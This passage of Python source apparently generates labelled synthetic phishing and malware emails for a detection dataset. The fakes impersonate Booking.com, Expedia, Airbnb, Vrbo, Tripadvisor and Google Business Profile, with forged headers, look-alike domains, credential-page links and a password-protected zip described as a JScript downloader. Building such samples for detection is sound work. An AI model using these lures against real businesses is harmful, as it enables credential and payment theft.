             "> Dear Ms Hartmann,\n> thank you for your request. We confirm availability of a double room with extra bed\n"
             "> from 22 to 26 May, 95 EUR per night including breakfast.\n> Kind regards, Giulia\n")
    html = ('<div dir="ltr"><div>Hello Giulia,</div><div><br></div><div>thank you for your quick answer and for confirming the room from 22 to 26 May.</div>'
            '<div>As I wrote before, my daughter has a severe nut and gluten allergy. I attach the documents from our doctor with the list of what she can not eat, please give them to the kitchen for the breakfast.</div>'
            '<div>The archive is protected because of the medical data, password: <b>2205</b></div><div><br></div>'
            '<div>Thank you very much, we are looking forward to our stay!</div><div>Jessica Hartmann</div></div><br>\n'
            '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, 5 May 2025 at 18:22, Pensione Delfino &lt;<a href="mailto:info@pensionedelfino.it">info@pensionedelfino.it</a>&gt; wrote:<br></div>'
            '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">'
            'Dear Ms Hartmann,<br>thank you for your request. We confirm availability of a double room with extra bed from 22 to 26 May, 95 EUR per night including breakfast.<br>Kind regards, Giulia</blockquote></div>\n')
    body = Multi("mixed", f"000000000000{h(seed+'bd1',16)}", [
        Multi("alternative", f"000000000000{h(seed+'bd2',16)}", [text(plain), text(html, "html")]),
        attachment("application/zip", "Allergy_documents_Hartmann.zip", z)])
    own = [dkim("gmail.com", "20230601", "to:subject:message-id:date:from:in-reply-to:references:mime-version:from:to:cc:subject:date:message-id:reply-to", seed, when,
                " x=" + str(int(when.timestamp()) + 604800) + "; darn=pensionedelfino.it;"),
           "MIME-Version: 1.0",
           f"References: <b7e1{h(seed+'r',20)}@pensionedelfino.it>",
           f"In-Reply-To: <b7e1{h(seed+'r',20)}@pensionedelfino.it>",
           f"From: {addr('Jessica Hartmann', sender)}",
           f"Date: {fmt(when)}",
           f"Message-ID: {gmail_msgid(seed)}",
           "Subject: Re: Room request 22-26 May - allergy",
           f"To: {addr('Pensione Delfino', rcpt)}"]
    add("malware", "phish", "guest-allergy-documents-js-zip",
        assemble(top, hops, own, tail, body),
        "Fake guest on Gmail continues an availability thread and sends 'allergy documents' as a zip holding a double-extension .pdf.js JScript downloader.")


def a_booking_verify_compromised() -> None:
    seed = "a04"
    when = T(2025, 7, 22, 11, 3, 9, 2)
    rcpt = "reservas@apartamentoslamarina.es"
    sender = "reservas@hotelsolymar-benidorm.es"
    srv_out = "es-cp17.dinahosting-clone.net"
    ip = "82.98.134.17"
    link = "https://booklng-partnerverify.com/sign-in?op_token=" + h(seed + "t", 40) + "&hotel_id=8820413"
    top, tail = inbound("cpanel", rcpt=rcpt, when=when, mailfrom=sender, helo=srv_out, ip=ip, spf="pass",
                        dkims=[("pass", "hotelsolymar-benidorm.es", "default")], dmarc=("pass", "none"),
                        hfrom="hotelsolymar-benidorm.es", seed=seed, server="vps-b71c2.hostalia-mail.net")
    hops = [f"Received: from [102.89.47.201] (port=51244 helo=[192.168.1.34])\n\tby {srv_out} with esmtpsa  (TLS1.3) tls TLS_AES_128_GCM_SHA256\n\t(Exim 4.97.1)\n\t(envelope-from <{sender}>)\n\tid 1tq{alnum(seed,4)}-0000Cz-2K\n\tfor {rcpt}; {fmt(before(when, 3))}"]
    inner = (
        '<p style="font-size:20px;font-weight:bold;margin:0 0 16px 0;">Verificaci&oacute;n de su alojamiento necesaria</p>\n'
        '<p>Estimado socio:</p>\n'
        '<p>Como parte de nuestras nuevas medidas de seguridad, todos los alojamientos deben confirmar sus datos de '
        'contacto y facturaci&oacute;n antes del <b>25 de julio de 2025</b>. Hemos detectado que la informaci&oacute;n de '
        'su alojamiento <b>Apartamentos La Marina</b> no est&aacute; verificada.</p>\n'
        '<p>Si no completa la verificaci&oacute;n, su alojamiento dejar&aacute; de aparecer en los resultados de b&uacute;squeda '
        'y las reservas futuras podr&iacute;an cancelarse.</p>\n'
        f'{button(link, "Verificar ahora")}\n'
        '<p style="margin-top:20px;">Atentamente,<br>Equipo de Soporte a Partners de Booking.com</p>\n')
    html = booking_tpl(inner)
    plain = ("Verificación de su alojamiento necesaria\n\nEstimado socio:\n\nComo parte de nuestras nuevas medidas de seguridad, "
             "todos los alojamientos deben confirmar sus datos de contacto y facturación antes del 25 de julio de 2025.\n"
             "Si no completa la verificación, su alojamiento dejará de aparecer en los resultados de búsqueda.\n\n"
             f"Verificar ahora: {link}\n\nEquipo de Soporte a Partners de Booking.com\n")
    own = [dkim("hotelsolymar-benidorm.es", "default", "Content-Type:MIME-Version:Message-ID:Subject:To:From:Date:Sender:Reply-To", seed, when),
           f"Date: {fmt(when)}",
           f"From: {addr('Booking.com Partner', sender)}",
           f"To: {rcpt}",
           f"Subject: {enc('Acción requerida: verifique su alojamiento (ID 8820413)')}",
           f"Message-ID: <{h(seed+'m',32)}@hotelsolymar-benidorm.es>",
           "X-Mailer: Roundcube Webmail/1.6.6"]
    add("phishing", "phish", "booking-verify-property-compromised-es",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Spanish 'verify your property' Booking.com lure sent from a compromised hotel mailbox (its own SPF/DKIM/DMARC pass) with display name 'Booking.com Partner', linking to the typosquat booklng-partnerverify.com.")


def a_booking_payment_hold() -> None:
    seed = "a05"
    when = T(2024, 9, 17, 8, 26, 33, -4)
    rcpt = "seasidecottages.ri@outlook.com"
    dom = "booking-partnerhub.com"
    ip = "193.233.21.88"
    final = "https://partnerhub-payments.booking-finance.workers.dev/auth?acc=9920417"
    link = "https://www.google.com/url?q=" + final.replace(":", "%3A").replace("/", "%2F").replace("?", "%3F").replace("=", "%3D") + "&sa=D&sntz=1&usg=AOvVaw" + alnum(seed + "usg", 22)
    top, tail = inbound("outlook", rcpt=rcpt, when=when, mailfrom=f"payouts@{dom}", helo=f"mx1.{dom}", ip=ip, spf="pass",
                        dkims=[("pass", dom, "s1")], dmarc=("pass", "none"), hfrom=dom, seed=seed, ctry="RU", lang="en")
    hops = []
    inner = (
        '<p style="font-size:20px;font-weight:bold;margin:0 0 16px 0;">Payments for your bookings are on hold</p>\n'
        '<p>Hello,</p>\n'
        '<p>We were unable to process the payouts for your recent reservations because the bank details on your '
        'account could not be verified. <b>3 payouts totalling USD 2,684.50</b> are currently on hold.</p>\n'
        '<p>To release your funds, please confirm your payout information in the Partner Hub.</p>\n'
        f'{button(link, "Confirm payout details")}\n'
        '<p style="margin-top:20px;">If your details are not confirmed within 48 hours, the funds will be returned to the guests.</p>\n'
        '<p>Kind regards,<br>Booking.com Finance Team</p>\n')
    html = booking_tpl(inner)
    plain = ("Payments for your bookings are on hold\n\nWe were unable to process the payouts for your recent reservations "
             "because the bank details on your account could not be verified. 3 payouts totalling USD 2,684.50 are on hold.\n\n"
             f"Confirm payout details: {link}\n\nBooking.com Finance Team\n")
    own = [dkim(dom, "s1", "from:to:subject:date:message-id", seed, when),
           f"From: {addr('Booking.com', 'payouts@' + dom)}",
           f"To: {rcpt}",
           "Subject: Action needed: payments for your bookings are on hold",
           f"Date: {fmt(when)}",
           f"Message-ID: <{h(seed+'m',16)}.{h(seed+'n',8)}@{dom}>"]
    add("phishing", "phish", "booking-payouts-on-hold-google-redirect",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Look-alike booking-partnerhub.com tells a rental host on Outlook.com that payouts are on hold and links through a Google open redirect to a workers.dev bank-detail phishing page.")


def a_booking_cancel_sendgrid_es() -> None:
    seed = "a06"
    when = T(2025, 10, 14, 16, 48, 2, 2)
    rcpt = "reservas@hostalelcarmen.es"
    dom = "extranet-reservas.com"
    ip = "149.72.188.204"
    final = "https://pub-8c1f2a94d03b4e7f9a2d5c6b1e0f3a47.r2.dev/extranet/login.html#" + rcpt
    click = f"https://u4829371.ct.sendgrid.net/ls/click?upn=u001.{b64(seed+'upn', 120).replace('/', '-').replace('+', '_')}"
    top, tail = inbound("gmail", rcpt=rcpt, when=when, mailfrom=f"bounces+4829371-7a1f-{rcpt.replace('@', '=')}@em8812.{dom}",
                        helo="wrqvtzvf.outbound-mail.sendgrid.net", ip=ip, spf="pass",
                        dkims=[("pass", dom, "s1"), ("pass", "sendgrid.info", "smtpapi")], dmarc=("pass", "none"), hfrom=dom, seed=seed,
                        rdns="wrqvtzvf.outbound-mail.sendgrid.net")
    hops = [f"Received: by filterdrecv-7bd8f6c9c-2xkqm with SMTP id filterdrecv-7bd8f6c9c-2xkqm-1-{h(seed+'f',8).upper()}-1F\n        {fmt(before(when,2).astimezone(timezone.utc)).replace('-0000','+0000')}",
            f"Received: from NDgyOTM3MQ (unknown)\n\tby geopod-ismtpd-12 (SG) with HTTP\n\tid {b64(seed+'sgid',22)}\n\t{fmt(before(when,3).astimezone(timezone.utc)).replace('-0000','+0000')}"]
    inner = (
        '<p style="font-size:20px;font-weight:bold;margin:0 0 16px 0;">Reserva cancelada por el cliente</p>\n'
        '<p>Hola, Hostal El Carmen:</p>\n'
        '<p>El cliente <b>Martín Aguirre</b> ha cancelado la reserva <b>3915 207 884</b> (2 noches, 18&ndash;20 oct 2025). '
        'El cliente ha solicitado la devoluci&oacute;n del importe de <b>312,00 &euro;</b> ya cobrado con tarjeta virtual.</p>\n'
        '<p>Debe confirmar o rechazar el reembolso desde la extranet en un plazo de 12 horas.</p>\n'
        f'{button(click, "Gestionar cancelación")}\n'
        '<p style="margin-top:20px;">Saludos,<br>Booking.com</p>\n'
        f'<img src="https://u4829371.ct.sendgrid.net/wf/open?upn=u001.{b64(seed+"open", 60).replace("/", "-").replace("+", "_")}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;">\n')
    html = booking_tpl(inner)
    plain = ("Reserva cancelada por el cliente\n\nEl cliente Martín Aguirre ha cancelado la reserva 3915 207 884 (2 noches, 18-20 oct 2025) "
             "y ha solicitado la devolución de 312,00 EUR.\nDebe confirmar o rechazar el reembolso en un plazo de 12 horas.\n\n"
             f"Gestionar cancelación: {click}\n")
    own = [dkim(dom, "s1", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to", seed, when),
           dkim("sendgrid.info", "smtpapi", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to:feedback-id:x-feedback-id", seed + "sg", when),
           f"Date: {fmt(when.astimezone(timezone.utc)).replace('-0000', '+0000')}",
           f"From: {addr('Booking.com', 'noreply@' + dom)}",
           f"Message-ID: <{b64(seed+'mid',22)}@geopod-ismtpd-12>",
           f"Subject: {enc('Cancelación de reserva 3915207884 – reembolso pendiente')}",
           f"To: {rcpt}",
           f"X-SG-EID: \n =?us-ascii?Q?{b64(seed+'eid', 60)}?=",
           f"X-SG-ID: \n =?us-ascii?Q?{b64(seed+'sgi', 60)}?=",
           "X-Entity-ID: u001." + b64(seed + "ent", 20)]
    add("phishing", "phish", "booking-cancellation-sendgrid-r2-es",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Spanish fake Booking.com cancellation/refund notice sent through SendGrid from the look-alike extranet-reservas.com, click-tracked link ending at an r2.dev login page.")


for _fn in (a_booking_complaint_lookalike, a_booking_relay_clickfix, a_guest_allergy_js, a_booking_verify_compromised,
            a_booking_payment_hold, a_booking_cancel_sendgrid_es):
    _fn()


# ---------------------------------------------------------------- generic envelope


def envelope(profile: str, *, seed: str, when: datetime, rcpt: str, rk: str, frm: str, mailfrom: str | None = None,
             d: str | None = None, host: str | None = None, ip: str | None = None, server: str = "",
             ctry: str = "US", lang: str = "en", scl: int = 1, bcl: int = 0, spf: str | None = None,
             dmarc: tuple[str, str] | None = None, dk: list | None = None, hdrs: str | None = None,
             extra_dkim: list[tuple[str, str]] | None = None):
    """Recipient-provider headers, sender hops and DKIM signatures for a sending profile.

    Returns (top, hops, dkim_lines, tail)."""
    fdom = frm.split("@")[-1]
    hdrs = hdrs or "from:to:subject:date:message-id:mime-version:content-type"
    hops: list[str] = []
    sigs: list[str] = []
    if profile == "gmail":
        host, ip = gmail_host(seed)
        mailfrom = mailfrom or frm
        dk = dk or [("pass", "gmail.com", "20230601")]
        dmarc = dmarc or ("pass", "none")
        hops = hop_gmail(seed, when, rcpt)
        sigs = [dkim("gmail.com", "20230601", "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to", seed, when,
                     f" x={int(when.timestamp()) + 604800}; darn={rcpt.split('@')[-1]};")]
    elif profile == "outlookcom":
        host, ip = outlookcom_host(seed)
        mailfrom = mailfrom or frm
        dk = dk or [("pass", fdom, "selector1")]
        dmarc = dmarc or ("pass", "none")
        hops = hop_m365(seed, when, "namprd")
        sigs = [dkim(fdom, "selector1", "Date:From:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", seed, when)]
    elif profile == "m365":
        host, ip = m365_host(seed, eu=ctry not in ("US", "CA", "AU"))
        mailfrom = mailfrom or frm
        d = d or fdom
        dk = dk or [("pass", d, "selector1")]
        dmarc = dmarc or ("pass", "quarantine")
        hops = hop_m365(seed, when)
        sigs = [dkim(d, "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", seed, when)]
    elif profile in ("vps", "cpanel-out", "spoof", "esp"):
        mailfrom = mailfrom or frm
        d = d or mailfrom.split("@")[-1]
        dk = dk if dk is not None else [("pass", d, "default")]
        dmarc = dmarc or ("pass", "none")
        for res, dd, ss in dk:
            if res in ("pass", "fail"):
                sigs.append(dkim(dd, ss, hdrs, seed + dd, when))
    else:
        raise ValueError(profile)
    for dd, ss in extra_dkim or []:
        sigs.append(dkim(dd, ss, hdrs, seed + "x" + dd, when))
    top, tail = inbound(rk, rcpt=rcpt, when=when, mailfrom=mailfrom, helo=host, ip=ip, spf=spf or "pass", dkims=dk,
                        dmarc=dmarc, hfrom=fdom, seed=seed, server=server, ctry=ctry, lang=lang, scl=scl, bcl=bcl)
    return top, hops, sigs, tail


def stdhead(*, frm: str, to: str, subject: str, when: datetime, msgid: str, extra: list[str] | None = None,
            order: str = "date-first") -> list[str]:
    lines = [f"From: {frm}", f"To: {to}", f"Subject: {enc(subject)}", f"Date: {fmt(when)}", f"Message-ID: {msgid}"]
    if order == "date-first":
        lines = [lines[3], lines[0], lines[1], lines[2], lines[4]]
    return lines + (extra or [])


def exim_hop(seed: str, when: datetime, srv: str, client: str, cip: str, sender: str, rcpt: str, auth: bool = True) -> str:
    return (f"Received: from {client} ([{cip}]:{int(h(seed+'cp',4),16)%30000+30000})\n\tby {srv} with {'esmtpsa' if auth else 'esmtps'}  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
            f"\t(Exim 4.97.1)\n\t(envelope-from <{sender}>)\n\tid 1t{alnum(seed+'ex',4)}-{int(h(seed+'ex2',4),16)%99999:07d}-{alnum(seed+'ex3',2)}\n\tfor {rcpt}; {fmt(before(when, 3))}")


def postfix_hop(seed: str, when: datetime, host: str, rcpt: str, client: str = "localhost (localhost [127.0.0.1])") -> str:
    return f"Received: from {client}\n\tby {host} (Postfix) with ESMTPSA id {h(seed+'pf',10).upper()}\n\tfor <{rcpt}>; {fmt(before(when, 3))}"


def ses_hop(seed: str, when: datetime) -> tuple[str, str]:
    n = int(h(seed + "ses", 2), 16) % 200 + 10
    return f"a{n % 9 + 1}-{n}.smtp-out.eu-west-1.amazonses.com", f"54.240.{n % 8 + 1}.{n}"


def generic_tpl(brand: str, colour: str, inner: str, footer: str, logo: str = "", fg: str = "#ffffff") -> str:
    logo_html = f'<img src="{logo}" alt="{brand}" height="28" style="display:block;border:0;">' if logo else f'<span style="font-size:22px;font-weight:bold;color:{fg};">{brand}</span>'
    return html_page(
        '<table width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#f4f4f4;font-family:Helvetica,Arial,sans-serif;">\n'
        '<tr><td align="center" style="padding:20px 0;">\n<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;">\n'
        f'<tr><td style="background:{colour};padding:18px 28px;">{logo_html}</td></tr>\n'
        f'<tr><td style="padding:28px;font-size:15px;line-height:22px;color:#222222;">\n{inner}\n</td></tr>\n'
        f'<tr><td style="padding:18px 28px;font-size:11px;line-height:16px;color:#888888;background:#fafafa;">{footer}</td></tr>\n'
        '</table>\n</td></tr>\n</table>')


# ---------------------------------------------------------------- attacks: other OTAs, reviews, Google, Meta

def a_expedia_vcc() -> None:
    seed = "a07"
    when = T(2025, 2, 4, 7, 12, 55, -5)
    rcpt = "gm@palmettobayinn.com"
    dom = "expedia-partnerscentral.com"
    frm = "no-reply@" + dom
    link = "https://epc-virtualcard-release.vercel.app/login?property=58213307&ref=" + h(seed, 10)
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, host="srv1.expedia-partnerscentral.com",
                                     ip="91.92.243.155", ctry="BG", d=dom, dmarc=("pass", "none"))
    hops = [postfix_hop(seed, when, "srv1.expedia-partnerscentral.com", rcpt)]
    inner = ('<p style="font-size:20px;font-weight:bold;color:#1f2b4d;">Virtual card payment could not be released</p>\n'
             '<p>Hello Palmetto Bay Inn team,</p>\n'
             '<p>Expedia Virtual Card (EVC) payments for <b>4 reservations</b> at your property could not be released because '
             'your Partner Central account is missing updated tax and banking information (W-9).</p>\n'
             '<table cellpadding="6" style="border-collapse:collapse;font-size:14px;"><tr><td style="border:1px solid #ddd;">Amount pending</td><td style="border:1px solid #ddd;"><b>USD 3,912.40</b></td></tr>'
             '<tr><td style="border:1px solid #ddd;">Property ID</td><td style="border:1px solid #ddd;">58213307</td></tr></table>\n'
             f'<p>Please sign in to Partner Central to update your details.</p>\n{button(link, "Sign in to Partner Central", "#1668e3")}\n'
             '<p>Thank you,<br>Expedia Group Partner Support</p>')
    html = generic_tpl("Expedia Group", "#1f2b4d", inner, "Expedia, Inc. 1111 Expedia Group Way W, Seattle, WA 98119")
    plain = ("Virtual card payment could not be released\n\nExpedia Virtual Card payments for 4 reservations could not be released because your "
             "Partner Central account is missing updated tax and banking information.\nAmount pending: USD 3,912.40\n\n"
             f"Sign in: {link}\n\nExpedia Group Partner Support\n")
    own = sigs + stdhead(frm=addr("Expedia Partner Central", frm), to=rcpt, subject="Action required: EVC payments on hold for property 58213307",
                         when=when, msgid=f"<{h(seed+'m',20)}@{dom}>")
    add("phishing", "phish", "expedia-partner-central-vcc-vercel",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Look-alike expedia-partnerscentral.com claims Expedia virtual-card payments are on hold and links to a vercel.app Partner Central credential page.")


def a_airbnb_payout_spoof() -> None:
    seed = "a08"
    when = T(2024, 6, 19, 13, 40, 2, 1)
    rcpt = "cottage.windermere@gmail.com"
    frm = "automated@airbnb.com"
    link = "https://airbnb-host-payouts.netlify.app/resolution/payout?code=" + h(seed, 16)
    top, hops, sigs, tail = envelope("spoof", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm,
                                     mailfrom="www-data@vmi1928471.contaboserver.net", host="vmi1928471.contaboserver.net",
                                     ip="194.163.152.77", spf="none", dk=[], dmarc=("fail", "reject"))
    hops = [postfix_hop(seed, when, "vmi1928471.contaboserver.net", rcpt, "vmi1928471.contaboserver.net (localhost [127.0.0.1])")]
    inner = ('<p style="font-size:24px;font-weight:bold;color:#222;">Your payout is on hold</p>\n'
             '<p>Hi Margaret,</p>\n<p>We couldn&#39;t send your payout of <b>&pound;1,284.00</b> for the reservation HMQ8ZN4K2T because we need '
             'to verify your payout method. This is required by our payments regulator.</p>\n'
             f'{button(link, "Verify payout method", "#ff385c")}\n<p>Once verified, your payout will be sent within 24 hours.</p>\n'
             '<p>Thanks,<br>The Airbnb team</p>')
    html = generic_tpl("airbnb", "#ffffff", inner, "Airbnb Ireland UC, 8 Hanover Quay, Dublin 2, Ireland", fg="#ff385c")
    plain = (f"Your payout is on hold\n\nHi Margaret,\nWe couldn't send your payout of GBP 1,284.00 for reservation HMQ8ZN4K2T because we need to verify "
             f"your payout method.\n\nVerify payout method: {link}\n\nThe Airbnb team\n")
    own = sigs + stdhead(frm=addr("Airbnb", frm), to=rcpt, subject="Action required: your payout is on hold", when=when,
                         msgid=f"<{h(seed+'m',13)}.{h(seed+'n',6)}@vmi1928471.contaboserver.net>",
                         extra=["X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)"])
    add("phishing", "phish", "airbnb-payout-hold-spoof-netlify",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Spoofed automated@airbnb.com (SPF none, no DKIM, DMARC fail) from a rented VPS tells a host a payout is on hold; link to a netlify.app payout-verification page.")


def a_airbnb_verify_qr_it() -> None:
    seed = "a09"
    when = T(2025, 4, 8, 10, 22, 41, 2)
    rcpt = "info@casavacanzeilgelso.it"
    dom = "airbnb-verifica-host.com"
    frm = "host-verifica@" + dom
    qurl = "https://verifica-annuncio.airbnb-verifica-host.com/it/listing/41928355?t=" + h(seed, 12)
    pdf = files.pdf(["Airbnb - Verifica dell'annuncio", "", "Gentile Host,",
                     "il tuo annuncio n. 41928355 deve essere verificato entro 72 ore.",
                     "Scansiona il codice QR qui sotto con il tuo telefono per completare la verifica.",
                     "", "Se la verifica non viene completata, l'annuncio verra' sospeso."], title="Verifica annuncio 41928355")
    qr = files.qr_png(qurl)
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="cpanel", frm=frm, host="mail.airbnb-verifica-host.com",
                                     ip="103.75.118.42", server="lx23.tophost-srv.it", d=dom)
    hops = [postfix_hop(seed, when, "mail.airbnb-verifica-host.com", rcpt)]
    html = html_page('<div style="font-family:Arial,sans-serif;font-size:15px;color:#222;max-width:560px;">'
                     '<p style="color:#ff385c;font-size:22px;font-weight:bold;">airbnb</p>'
                     '<p>Gentile Host,</p><p>per continuare a ricevere prenotazioni, il tuo annuncio deve essere verificato.</p>'
                     '<p>Scansiona il codice QR con la fotocamera del tuo smartphone:</p>'
                     '<p><img src="cid:qr41928355" width="180" height="180" alt="QR"></p>'
                     '<p>Trovi le istruzioni anche nel documento allegato.</p><p>Il team di Airbnb</p></div>')
    plain = "Gentile Host,\nper continuare a ricevere prenotazioni, il tuo annuncio deve essere verificato. Scansiona il codice QR.\nIl team di Airbnb\n"
    body = Multi("mixed", "b1_" + h(seed + "b1", 32), [
        Multi("related", "b2_" + h(seed + "b2", 32), [
            Multi("alternative", "b3_" + h(seed + "b3", 32), [text(plain), text(html, "html")]),
            attachment("image/png", "qr.png", qr, inline=True, cid="qr41928355")]),
        attachment("application/pdf", "Verifica_annuncio_41928355.pdf", pdf)])
    own = sigs + stdhead(frm=addr("Airbnb", frm), to=rcpt, subject="Verifica il tuo annuncio entro 72 ore", when=when,
                         msgid=f"<{h(seed+'m',32)}@{dom}>", extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"])
    add("phishing", "phish", "airbnb-verify-listing-qr-it",
        assemble(top, hops, own, tail, body),
        "Italian 'verify your listing' Airbnb lure from look-alike airbnb-verifica-host.com with an inline QR code image (and PDF) pointing to a credential page, no clickable link.")


def a_vrbo_inquiry_firebase() -> None:
    seed = "a10"
    when = T(2025, 8, 2, 18, 4, 19, -6)
    rcpt = "mountainviewcabins@outlook.com"
    frm = "vrbo-notifications@owner-messages-vrbo.com"
    link = "https://vrbo-owner-inbox-5a2f1.firebaseapp.com/inbox/?thread=3f9a" + h(seed, 8)
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="outlook", frm=frm, host="mta2.owner-messages-vrbo.com",
                                     ip="5.181.157.90", ctry="LT")
    hops = [postfix_hop(seed, when, "mta2.owner-messages-vrbo.com", rcpt)]
    inner = ('<p style="font-size:20px;font-weight:bold;">You have a new inquiry</p>\n'
             '<p><b>Daniel R.</b> is interested in <b>Mountain View Cabin #2</b> for Aug 21 &ndash; Aug 28, 2025 (4 guests).</p>\n'
             '<div style="background:#f2f4f7;padding:14px;border-radius:6px;">&ldquo;Hi, we are a family of four and your cabin looks perfect. '
             'Is it pet friendly? We have a small dog. Thanks!&rdquo;</div>\n'
             f'<p>Respond within 24 hours to keep your response rate.</p>\n{button(link, "Reply to traveler", "#0d2c8e")}\n')
    html = generic_tpl("Vrbo", "#0d2c8e", inner, "Vrbo, an Expedia Group company. 1111 Expedia Group Way W, Seattle, WA 98119")
    plain = f"You have a new inquiry\n\nDaniel R. is interested in Mountain View Cabin #2 for Aug 21 - Aug 28, 2025.\n\nReply: {link}\n"
    own = sigs + stdhead(frm=addr("Vrbo", frm), to=rcpt, subject="New inquiry from Daniel R. - Aug 21 - Aug 28", when=when,
                         msgid=f"<{h(seed+'m',24)}@owner-messages-vrbo.com>")
    add("phishing", "phish", "vrbo-inquiry-firebaseapp",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Fake Vrbo traveler inquiry from the look-alike owner-messages-vrbo.com; 'Reply to traveler' opens a firebaseapp.com Vrbo/Expedia login clone.")


def a_tripadvisor_review_gcs() -> None:
    seed = "a11"
    when = T(2024, 10, 28, 15, 33, 8, 0)
    rcpt = "manager@thecopperkettlecafe.co.uk"
    frm = "info@bramleyjoinery.co.uk"
    link = "https://storage.googleapis.com/ta-review-mgmt-81724/respond.html#manager@thecopperkettlecafe.co.uk"
    top, hops, sigs, tail = envelope("m365", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, ctry="GB")
    inner = ('<p style="font-size:20px;font-weight:bold;">A traveller posted a 1-star review of The Copper Kettle Caf&eacute;</p>\n'
             '<p style="color:#d93025;font-size:18px;">&#9679;&#9675;&#9675;&#9675;&#9675; &ldquo;Food poisoning after lunch&rdquo;</p>\n'
             '<p>This review mentions a possible health issue and has been flagged for management response. Reviews that mention '
             'food safety concerns may be reported to local authorities if not addressed within 48 hours.</p>\n'
             f'{button(link, "Read and respond to review", "#34e0a1", "#000000")}\n<p>Tripadvisor Management Center</p>')
    html = generic_tpl("Tripadvisor", "#34e0a1", inner, "&copy; 2024 Tripadvisor LLC, 400 1st Avenue, Needham, MA 02494, USA", fg="#000000")
    plain = f"A traveller posted a 1-star review: Food poisoning after lunch\n\nRead and respond: {link}\n\nTripadvisor Management Center\n"
    own = sigs + stdhead(frm=addr("Tripadvisor Management Center", frm), to=rcpt,
                         subject="New 1-star review: \u201cFood poisoning after lunch\u201d", when=when, msgid=outlook_msgid(seed),
                         extra=[f"Thread-Topic: New 1-star review", f"Thread-Index: {thread_index(seed)}", "Accept-Language: en-GB, en-US",
                                "X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: ", "Content-Language: en-GB"])
    add("phishing", "phish", "tripadvisor-1star-review-compromised-gcs",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Tripadvisor 'food poisoning 1-star review' lure sent from a compromised joinery's Microsoft 365 mailbox (all checks pass); link to an HTML page on storage.googleapis.com.")


def a_gbp_suspension_gmail() -> None:
    seed = "a12"
    when = T(2025, 1, 23, 9, 5, 44, -8)
    rcpt = "hello@sunsetgrillsd.com"
    frm = "gbp.policy.review.team@gmail.com"
    link = "https://sites.google.com/view/gbp-appeal-center-case-88213/home"
    top, hops, sigs, tail = envelope("gmail", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm)
    plain = ("Google Business Profile - Policy Violation Notice\n\nYour business profile \"Sunset Grill San Diego\" has been flagged for "
             "suspension due to multiple reports of misleading information.\n\nYou can submit an appeal within 24 hours: "
             f"{link}\n\nCase ID: 8-8213-4471\nGoogle Business Profile Support\n")
    html = ('<div dir="ltr"><div style="font-family:Roboto,Arial,sans-serif;max-width:560px;">'
            '<p style="font-size:22px;color:#202124;">Google Business Profile</p>'
            '<p style="font-size:18px;color:#d93025;">Policy Violation Notice</p>'
            '<p>Your business profile <b>&quot;Sunset Grill San Diego&quot;</b> has been flagged for suspension due to multiple reports of misleading information.</p>'
            f'<p>You can submit an appeal within 24 hours:</p><p><a href="{link}" style="background:#1a73e8;color:#fff;padding:10px 18px;border-radius:4px;text-decoration:none;">Submit appeal</a></p>'
            '<p style="color:#5f6368;font-size:12px;">Case ID: 8-8213-4471<br>Google Business Profile Support</p></div></div>\n')
    own = sigs + ["MIME-Version: 1.0", f"From: {addr('Google Business Profile Support', frm)}", f"Date: {fmt(when)}",
                  f"Message-ID: {gmail_msgid(seed)}", "Subject: Policy Violation Notice - Business Profile flagged for suspension",
                  f"To: {rcpt}"]
    add("phishing", "phish", "google-business-suspension-gmail-sites",
        assemble(top, hops, own, tail, Multi("alternative", f"000000000000{h(seed,16)}", [text(plain), text(html, "html")])),
        "Free Gmail account posing as 'Google Business Profile Support' threatens a restaurant's listing suspension; appeal link on sites.google.com.")


def a_gbp_verify_callback() -> None:
    seed = "a13"
    when = T(2025, 6, 10, 12, 51, 3, -4)
    rcpt = "bluewaterkayaktours@gmail.com"
    frm = "listing.verification.dept@outlook.com"
    top, hops, sigs, tail = envelope("outlookcom", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm)
    plain = ("Hello Business Owner,\n\nYour Google listing for Blue Water Kayak Tours is NOT VERIFIED and is not showing to customers "
             "searching in your area. Unverified listings will be removed from Google Maps on June 14.\n\n"
             "To verify and keep your listing active call our verification department: +1 (888) 614-2097 (Mon-Sat 8am-8pm EST)\n\n"
             "Reference: GMB-VR-662190\n\nGoogle Listing Verification\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">'
            '<div style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">'
            'Hello Business Owner,<br><br>Your Google listing for <b>Blue Water Kayak Tours</b> is <b>NOT VERIFIED</b> and is not showing to customers '
            'searching in your area. Unverified listings will be removed from Google Maps on June 14.<br><br>'
            'To verify and keep your listing active call our verification department: <b>+1 (888) 614-2097</b> (Mon-Sat 8am-8pm EST)<br><br>'
